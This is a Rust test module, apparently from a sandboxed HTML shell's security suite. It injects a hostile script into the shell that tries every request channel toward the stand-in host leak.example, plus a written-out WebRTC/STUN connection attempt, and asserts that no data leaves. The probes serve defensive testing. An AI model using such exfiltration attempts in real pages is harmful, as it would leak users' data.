//! What hostile script within the locked shell gets out: told, for SECURITY.md, and held to be no request.

use super::network::Network;
use super::sink::{CALL, SILENT};
use super::{DEPARTURE, wait_for};
use crate::bench::Bench;
use crate::check_equal;
use crate::drive::engine::Engine;
use crate::tests::leak;
use xtask::bundle;
use xtask::failure::Outcome;

/// A name of nobody (RFC 2606).
const NAME: &str = "leak.example";

/// Tries every channel without leaving, then WebRTC; says what was heard of each.
pub fn tried(network: &Network, bench: &mut Bench) -> Outcome {
    let channels = leak::script_to(&format!("http://{NAME}/leak"));
    let peer = "document.addEventListener('click', async () => {
        try {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.9:3478' }] });
          peer.createDataChannel('x');
          await peer.setLocalDescription(await peer.createOffer());
        } catch { /* There is none. */ }
        setTimeout(() => { document.title = 'tried'; }, 500);
      }, { once: true, capture: true });";
    for (what, script) in [("every channel of a request", channels.as_str()), ("WebRTC", peer)] {
        if what == "WebRTC" && bench.engine == Engine::WebKit {
            continue;
        }
        bench.clear()?;
        let (begun, named) = (network.heard()?, network.names().len());
        let page = bundle::shell_with(&bench.program()?, script)?;
        let path = bench.write("hostile.html", page.as_bytes())?;
        let page = bench.open(&format!("file://{}", path.display()))?;
        page.click("h1")?;
        page.wait("document.title === 'tried'")?;
        wait_for(DEPARTURE);
        let heard = network.heard()?.since(&begun);
        let names = network.names().split_off(named);
        let silent = names.iter().filter(|name| name.ends_with(SILENT)).count();
        println!(
            "{}: hostile script in the shell, {what}: {heard}; connections without a word: {silent}",
            bench.engine.name()
        );
        let said: Vec<&String> =
            names.iter().filter(|name| name.starts_with(CALL) && !name.ends_with(SILENT)).collect();
        check_equal!(said, [""; 0], "what was said on connections by {what}");
    }
    Ok(())
}
